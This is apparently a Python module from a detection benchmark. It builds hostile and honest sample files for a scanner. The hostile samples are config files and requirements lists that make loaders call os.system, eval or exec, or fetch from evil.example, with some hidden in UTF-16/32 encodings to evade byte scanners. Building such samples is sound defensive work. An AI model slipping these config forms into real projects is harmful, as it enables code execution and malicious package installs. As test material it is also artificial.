"""Settings that no name announces, in odd encodings, and lists for installers.

Hostile: what loaders build, call or evaluate, where a scanner that goes by names or by
bytes of ASCII sees nothing. Honest: the same forms with what honest people write.
"""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING

from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

# Apart: no file of the project names where packages come from.
_INDEX = "index-url"

_HYDRA = '{"_target_": "os.system", "command": "true"}'
_KERAS = (
    '{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": '
    '"os", "class_name": "system", "config": {"command": "true"}, '
    '"registered_name": null}]}}'
)
_KERAS_PLAIN = (
    '{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": '
    '"keras.layers", "class_name": "Dense", "config": {"units": 4}, '
    '"registered_name": null}]}}'
)
_WIDE = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be")
_LOGGERS = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=f\n"
_LOGGER = f"{_LOGGERS}[logger_root]\nlevel=INFO\nhandlers=h\n"

_HOSTILE: dict[str, tuple[str, dict[str, str]]] = {
    "toml": ("TOML", {"c.toml": '[model]\n_target_ = "os.system"\n'}),
    "toml-without-ending": ("TOML", {"hparams": '[model]\n_target_="os.system"\n'}),
    "json-lines": ("JSON in lines", {"a.jsonl": f'{{"a": 1}}\n{_HYDRA}\n'}),
    "json-comment": ("JSON with comments", {"config.json": f"// c\n{_HYDRA}"}),
    "json-hash": (
        "JSON with comments",
        {"config.json": '{\n# c\n"_target_": "os.system"}'},
    ),
    "json-last-comma": (
        "JSON with last commas",
        {"config.json": '{"_target_": "os.system", "_args_": ["true",],}'},
    ),
    "yaml-cfg": (
        "YAML under another name",
        {"hparams.cfg": 'x: !!python/object/apply:os.system ["true"]\n'},
    ),
    "yaml-without-ending": (
        "YAML under another name",
        {"hparams": 'x: !!python/object/apply:os.system ["true"]\n'},
    ),
    "yaml-target-conf": (
        "YAML under another name",
        {"model.conf": "model:\n  _target_: os.system\n  command: 'true'\n"},
    ),
    "logging-factory": (
        "logging",
        {"logging.yaml": "handlers: {h: {(): os.system, command: 'true'}}\n"},
    ),
    "logging-factory-json": (
        "logging",
        {"l.json": '{"handlers": {"h": {"()": "os.system", "command": "true"}}}'},
    ),
    "logging-class": (
        "logging",
        {"l.yaml": "version: 1\nhandlers:\n  h:\n    class: os.system\n"},
    ),
    "logging-external": (
        "logging",
        {
            "l.yaml": "version: 1\nfilters:\n  f:\n    x: ext://os.system\n",
        },
    ),
    "logging-file-class": (
        "logging",
        {
            "logging.conf": f'{_LOGGER}[handler_h]\nclass=__import__("os").system\n'
            'args=("true",)\n'
        },
    ),
    "logging-file-name": (
        "logging",
        {"logging.conf": f'{_LOGGER}[handler_h]\nclass=os.system\nargs=("true",)\n'},
    ),
    "logging-file-args": (
        "logging",
        {
            "log.ini": f"{_LOGGER}[handler_h]\nclass=StreamHandler\n"
            "args=(eval('1'),\n  exec('2'))\n"
        },
    ),
    "omegaconf-eval": (
        "resolvers",
        {"c.yaml": "x: ${eval:\"__import__('os').system('true')\"}\n"},
    ),
    "modelfile-address": ("Modelfile", {"Modelfile": "FROM http://evil.example/m\n"}),
    "modelfile-adapter": (
        "Modelfile",
        {"Modelfile": "FROM ./m.gguf\nADAPTER /etc/passwd\n"},
    ),
    "mlflow-climbs": (
        "MLflow",
        {
            "MLmodel": "flavors:\n  python_function:\n    loader_module: "
            "mlflow.pyfunc.model\n    model_code_path: ../../evil.py\n"
        },
    ),
    "attention-kernel": (
        "attention",
        {"config.json": '{"attn_implementation": "evil/kernel:flash"}'},
    ),
    "attention-kernel-part": (
        "attention",
        {"config.json": '{"_attn_implementation": {"text_config": "evil/k@v1:f"}}'},
    ),
    "requirements-cut": (
        "requirements",
        {"requirements.txt": f"--extra-\\\n{_INDEX} http://evil.example/simple\n"},
    ),
    "requirements-list": (
        "requirements",
        {"requirements.txt": "-r https://evil.example/r.txt\n"},
    ),
    "requirements-constraints": (
        "requirements",
        {"requirements.txt": "a==1\n-c http://evil.example/c.txt\n"},
    ),
    "requirements-two-options": (
        "requirements",
        {"requirements.txt": f"--pre --extra-{_INDEX} https://evil.example/s\n"},
    ),
    "requirements-short": (
        "requirements",
        {"requirements.txt": "--extra-index https://evil.example/s\n"},
    ),
    "requirements-alias": (
        "requirements",
        {"requirements.txt": "--pypi-url https://evil.example/s\n"},
    ),
}
_HONEST: dict[str, dict[str, str]] = {
    "toml": {"c.toml": '[model]\n_target_ = "torch.nn.Linear"\nin_features = 3\n'},
    "pyproject": {
        "pyproject.toml": '[tool.ruff]\nline-length = 88\n[project]\nname="x"\n'
    },
    "json-lines": {"a.jsonl": '{"a": 1}\n{"_target_": "torch.nn.Linear"}\n'},
    "json-lines-of-texts": {
        "a.jsonl": '{"text": "set _target_: os.system"}\n{"b": 1}\n'
    },
    "prose": {"notes.txt": "Never load !!python/object/apply:os.system from YAML.\n"},
    "ini": {"setup.cfg": "[flake8]\nmax-line-length = 88\n"},
    "logging": {
        "logging.yaml": "version: 1\nformatters:\n  f:\n    (): pythonjsonlogger."
        "jsonlogger.JsonFormatter\nhandlers:\n  h:\n    class: "
        "logging.StreamHandler\n    stream: ext://sys.stdout\n    formatter: f\n"
    },
    "logging-file": {
        "logging.conf": f"{_LOGGER}[handler_h]\nclass=StreamHandler\n"
        "args=(sys.stderr,)\n[formatter_f]\nformat=%(asctime)s %(message)s\n"
    },
    "logging-file-path": {
        "alembic.ini": f"{_LOGGER}[handler_h]\nclass=handlers.RotatingFileHandler\n"
        "args=(os.path.join(os.environ.get('LOGS', '.'), 'x.log'), 'a', 10)\n"
        "kwargs={'encoding': 'utf-8'}\n"
    },
    "omegaconf-sums": {
        "c.yaml": "a: 2\nb: ${eval:'2 * ${a} + int(3.5)'}\nc: ${oc.env:HOME}\n"
    },
    "modelfile": {"Modelfile": "FROM ./m.gguf\nADAPTER ./lora.gguf\n"},
    "modelfile-blob": {
        "Modelfile": f"FROM /home/user/.ollama/models/blobs/sha256-{'a' * 64}\n"
    },
    "mlflow": {
        "MLmodel": "flavors:\n  python_function:\n    loader_module: "
        "mlflow.sklearn\n    model_path: model.skops\n"
    },
    "attention": {"config.json": '{"attn_implementation": "flash_attention_2"}'},
    "attention-kernel": {
        "config.json": '{"attn_implementation": "kernels-community/flash-attn3"}'
    },
    "requirements": {
        "requirements.txt": "-r base.txt\n-c ../constraints.txt\nfoo==1 \\\n"
        f"  --hash=sha256:{'a' * 64} \\\n  --hash=sha256:{'b' * 64}\n# c \\\nbar==2\n",
        "base.txt": "numpy==2.0\n",
    },
    "requirements-constraints": {
        "requirements.txt": "-c https://raw.githubusercontent.com/apache/airflow/"
        "constraints-2.9.0/constraints-3.11.txt\na==1\n"
    },
}


def _keras(text: str, encoding: str) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        member = zipfile.ZipInfo("config.json", (2026, 1, 1, 0, 0, 0))
        archive.writestr(member, text.encode(encoding))
    return held.getvalue()


def samples() -> Iterator[Sample]:
    """Give every sample."""
    for encoding in (*_WIDE, "utf-8-sig"):
        files = {
            "keras": {"m.keras": _keras(_KERAS, encoding)},
            "json": {"config.json": _HYDRA.encode(encoding)},
            "nameless": {"settings": f"\n {_HYDRA}\n".encode(encoding)},
        }
        for name, held in files.items():
            yield _sample(f"{name}-{encoding}", "encodings of JSON", held, hostile=True)
    text = "x: !!python/object/apply:os.system ['true']\n"
    held = {"a.yaml": text.encode("utf-16")}
    yield _sample("yaml-utf-16", "encodings of YAML", held, hostile=True)
    plain = {"m.keras": _keras(_KERAS_PLAIN, "utf-8-sig")}
    yield _sample("keras-utf-8-sig-honest", "honest", plain)
    frozen = {"requirements.txt": "numpy==2.0\r\n".encode("utf-16")}
    yield _sample("requirements-of-powershell", "honest", frozen)
    for name, (technique, texts) in _HOSTILE.items():
        held = {path: text.encode() for path, text in texts.items()}
        yield _sample(name, technique, held, hostile=True)
    for name, texts in _HONEST.items():
        held = {path: text.encode() for path, text in texts.items()}
        yield _sample(f"honest-{name}", "honest", held)


def _sample(
    name: str, technique: str, files: dict[str, bytes], *, hostile: bool = False
) -> Sample:
    return Sample(
        name=name,
        family="settings-anywhere",
        technique=technique,
        truth=Truth.HOSTILE if hostile else Truth.HONEST,
        files=files,
    )
